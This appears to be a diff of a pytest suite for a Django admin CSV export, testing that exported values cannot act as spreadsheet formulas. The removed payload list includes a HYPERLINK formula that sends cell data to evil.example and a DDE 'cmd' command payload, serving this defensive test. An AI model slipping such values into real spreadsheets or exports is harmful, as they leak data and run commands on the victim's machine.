@@ -22,6 +22,7 @@ from oauth_jwt_grant.admin import export
 from oauth_jwt_grant.models import Decision
 from tests.admin.conftest import make_user
 from tests.factories import ISSUER
+from tests.spreadsheets import FORMULAS, dangers
 
 LIST = reverse("admin:oauth_jwt_grant_decision_changelist")
 EXPORT = reverse("admin:oauth_jwt_grant_decision_export")
@@ -187,48 +188,33 @@ def test_log_says_who_exported_what_and_how_many(page, operator, issuer):
     assert page.get(reverse("admin:index")).status_code == 200  # where the latest actions are shown
 
 
-FORMULAS = [
-    "=1+1",
-    "+1",
-    "-1+1",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "\uff1d1+1",
-    "\uff0b1",
-    "\uff0d1",
-    "\uff20A1",
-    "a;=1+1",
-    'a";=1+1;"',
-    "a\t=1+1",
-    "a\r\n=1+1",
-    '=HYPERLINK("https://evil.example/?"&A1,"click")',
-    "=cmd|' /C calc'!A0",
-]
-#: Of cells, not of the text: what parts of it a program may take for cells, whatever its language.
-PARTS = re.compile(r"[;\t\r\n]")
-
-
-@pytest.mark.parametrize("formula", FORMULAS)
-def test_nothing_is_a_formula_to_a_spreadsheet(page, issuer, formula):
-    fields = ("subject", "kid", "detail", "scope", "reason")
-    decide(issuer, alg=formula[:16], **dict.fromkeys(fields, formula[:40]))
+def test_nothing_is_a_formula_to_a_spreadsheet(page, issuer):
+    """Whoever can reach the endpoint chooses a key id: nothing is verified when it is written."""
+    for formula in FORMULAS:
+        decide(
+            issuer,
+            alg=formula[:16],
+            **dict.fromkeys(("subject", "kid", "detail", "scope", "reason"), formula[:40]),
+        )
     text = text_of(page.post(EXPORT))
-    for row in csv.reader(io.StringIO(text, newline="")):
-        for cell in row:
-            assert not any(re.match(r"[=+\-@\uff1d\uff0b\uff0d\uff20]", part) for part in PARTS.split(cell))
-            assert not re.match(r"[\t\r\n]", cell)
+    assert dangers(text) == []
+    # Nothing is lost: without the apostrophes the values are the same.
+    kept = {row["subject"].replace("'", "") for row in csv.DictReader(io.StringIO(text, newline=""))}
+    assert kept == {formula[:40].replace("'", "") for formula in FORMULAS}
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_claims_stay_json_that_says_the_same(page, issuer, formula):
-    claims = {"claim": formula, formula: [formula, -1, {"deep": formula}]}
+    claims = {
+        "claim": formula,
+        formula: [formula, -1, {"deep": f"{formula},{formula}"}],
+        "last": f" {formula}",
+    }
     decide(issuer, claims=claims)
     text = text_of(page.post(EXPORT))
-    (row,) = csv.DictReader(io.StringIO(text))
+    (row,) = csv.DictReader(io.StringIO(text, newline=""))
     assert json.loads(row["claims"]) == claims
-    assert not any(re.match(r"[=+\-@]", part) for part in PARTS.split(row["claims"]))
+    assert dangers(text) == []
 
 
 @pytest.mark.parametrize("harmless", ["a-b", "a=b", "x@example.com", "1+1", 'say "hello", Bob', "a;b", "été"])
